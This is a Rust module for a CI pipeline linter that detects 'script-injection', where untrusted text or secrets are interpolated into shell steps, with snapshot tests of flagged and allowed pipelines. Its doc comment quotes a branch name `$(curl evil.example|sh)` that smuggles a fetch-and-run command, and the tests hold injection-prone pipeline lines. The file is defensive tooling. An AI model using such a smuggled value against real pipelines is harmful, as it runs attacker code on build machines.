//! `script-injection`: text that others wrote, or a secret, becomes a part of a
//! script. A branch may be called `$(curl evil.example|sh)`.

use super::rewrite::{self, Replaced};
use crate::plan::check::uses::{Use, Uses};
use crate::plan::describe::Exposure;
use crate::plan::diagnostic::{Diagnostic, MAX_SHOWN};
use crate::plan::expr::ContextRef;
use crate::plan::schema::{Action, Map, Run, Script, Text};

pub(super) fn check(uses: &Uses<'_>, found: &mut Vec<Diagnostic>) {
    let mut rest = uses.all.as_slice();
    while let Some(first) = rest.first() {
        let same = |one: &&Use<'_>| {
            one.place.step == first.place.step && one.place.exposure == first.place.exposure
        };
        let many = rest.iter().take_while(same).count();
        let (step, after) = rest.split_at(many);
        rest = after;
        if first.place.exposure == Exposure::Script {
            script(uses, step, found);
        }
    }
}

/// The expressions of one script, which are rewritten together.
fn script(uses: &Uses<'_>, step: &[Use<'_>], found: &mut Vec<Diagnostic>) {
    // More than are shown at all would be a long help each, and never be read.
    let dangerous: Vec<(&Use<'_>, &ContextRef)> =
        step.iter().filter_map(|one| Some((one, culprit(uses, one)?))).take(MAX_SHOWN).collect();
    let Some((text, env)) = dangerous.first().and_then(|(one, _)| script_of(uses, one)) else {
        return;
    };
    let replaced: Vec<Replaced<'_>> = dangerous
        .iter()
        .map(|(one, culprit)| Replaced { expression: &one.expression, path: &culprit.path })
        .collect();
    let mut rewritten = rewrite::rewrite(text, env, &replaced).into_iter();
    for (one, culprit) in dangerous {
        let span = one.span(&culprit.span);
        let name = uses.text.get(span.clone()).unwrap_or_default();
        let why = if uses.is_secret(culprit) {
            "is a secret, which other programs on the machine can read in a script"
        } else {
            "may hold anything, which the shell would run"
        };
        let diagnostic =
            Diagnostic::error("script-injection", format!("`{name}` is put into a script"), &span)
                .label(why);
        found.push(match rewritten.next() {
            Some(help) => diagnostic.help(help),
            None => diagnostic,
        });
    }
}

/// What makes an expression dangerous in a script.
fn culprit<'u>(uses: &Uses<'_>, one: &'u Use<'_>) -> Option<&'u ContextRef> {
    let flowing = || one.contexts.iter().filter(|named| named.flows);
    let secret = flowing().find(|named| uses.is_secret(named));
    secret.or_else(|| flowing().find(|named| uses.is_untrusted(named)))
}

/// The script that an expression is in, and the variables it has already.
fn script_of<'p>(uses: &Uses<'p>, one: &Use<'_>) -> Option<(&'p Text, &'p Map<Text>)> {
    let (_, service) = uses.service_at(one.place)?;
    let step = service.steps.get(one.place.step?.1)?;
    match &step.action {
        Action::Run(Run { script: Script::Shell(text) }) => Some((text, &step.env)),
        Action::Run(_)
        | Action::Build(_)
        | Action::Tag(_)
        | Action::Push(_)
        | Action::Deploy(_)
        | Action::Verify(_) => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::plan::check::{drawn, fine};

    #[test]
    fn the_help_is_the_same_line_without_the_danger() {
        insta::assert_snapshot!(drawn(
            "name: a\nsecrets: { db-url: { env: DB_URL } }\nvars: { title: \"${{ github.event.pull_request.title }}\" }\nsteps:\n\
             - run: echo ${{ pr.branch }}\n\
             - run: echo \"on ${{ github.head_ref }}_x and '${{ git.tag }}'\"\n\
             - run: |\n    make\n    psql '${{ secrets.db-url }}' # it's here\n    echo ${{ pr.branch }} ${{ pr.branch }}\n\
             - id: made\n  run: \"x: ${{ vars.title }}\"\n\
             - run: tell ${{ format('{0}!', steps.made.outputs.who) }} ${{ toJSON(github) }}\n"
        ));
    }

    #[test]
    fn own_values_in_scripts_are_allowed() {
        fine(
            "name: a\nvars: { a: b }\nsteps: [{ run: \"echo ${{ git.sha }} ${{ pr.number }} ${{ vars.a }} ${{ pr.branch == 'x' }}\" }]\n",
        );
    }

    #[test]
    fn a_list_is_run_without_a_shell() {
        fine("name: a\nsteps: [{ run: [echo, \"${{ pr.branch }}\"] }]\n");
    }
}
